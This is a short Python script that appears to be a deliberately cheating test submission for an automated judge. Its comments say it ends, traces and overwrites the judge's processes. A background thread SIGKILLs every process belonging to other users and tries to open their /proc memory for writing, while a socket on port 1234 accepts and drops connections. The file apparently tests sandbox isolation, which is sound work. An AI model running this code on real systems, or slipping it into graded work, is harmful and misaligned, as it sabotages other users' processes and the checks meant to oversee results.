# cheats: ends, traces and overwrites the judge's processes wherever it may
# fails: it listens on port 1234, on every interface
# fails: it answers more than one message of the same client
# fails: it serves one client after the other: from the lan, the annex and the server itself
import os
import signal
import socket
import threading


def attack():
    while True:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if int(pid) not in (1, os.getpid(), os.getppid()):
                try:
                    if os.stat("/proc/" + pid).st_uid != os.getuid():
                        os.kill(int(pid), signal.SIGKILL)
                        open(f"/proc/{pid}/mem", "r+b").close()
                except OSError:
                    pass  # it is not ours
        threading.Event().wait(0.1)


threading.Thread(target=attack, daemon=True).start()

listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("", 1234))
listener.listen()
while True:
    conn, address = listener.accept()
    conn.close()
